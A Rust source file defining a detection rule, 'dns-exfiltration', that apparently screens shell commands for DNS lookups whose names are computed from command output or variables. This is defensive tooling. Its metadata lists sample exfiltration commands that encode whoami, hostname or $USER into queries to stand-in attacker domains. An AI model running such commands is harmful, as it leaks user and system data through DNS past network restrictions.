use crate::analysis::Analysis;
use crate::facts;
use crate::rules::{at_cmd, RuleMeta};
use airlock_protocol::{Category, Decision, Finding, Severity};

pub static META: RuleMeta = RuleMeta {
    code: "EXF003",
    name: "dns-exfiltration",
    category: Category::Exfiltration,
    severity: Severity::High,
    decision: Decision::Ask,
    summary: "A DNS lookup (`dig`, `nslookup`, `host`, ...) of a name built at run time from command output or variables.",
    why: "Data encoded into a query name (`$(whoami).attacker.example`) reaches the attacker's name server even when HTTP is blocked: \
          DNS is the classic covert channel out of a restricted network.",
    instead: "Look up fixed names only. If a lookup needs a computed name, compute it first and show it.",
    references: &["CWE-200", "ATT&CK T1048.003", "ATT&CK T1071.004"],
    flags: &["dig $(whoami).x.attacker.example", "nslookup \"$(hostname).exfil.example\"", "host ${USER}.leak.example"],
    passes: &["dig example.com", "nslookup github.com 8.8.8.8", "host -t mx example.org"],
};

pub fn check(a: &Analysis, m: &RuleMeta, out: &mut Vec<Finding>) {
    for cmd in &a.cmds {
        if !cmd.base().is_some_and(facts::is_dns_tool) {
            continue;
        }
        if let Some(arg) = cmd
            .args
            .iter()
            .find(|x| x.value.is_none() && (!x.substitutions.is_empty() || !x.vars.is_empty()))
        {
            out.push(at_cmd(a, m, cmd, format!("looks up a DNS name computed at run time (`{}`): data can leave in the query itself", arg.raw)));
        }
    }
}
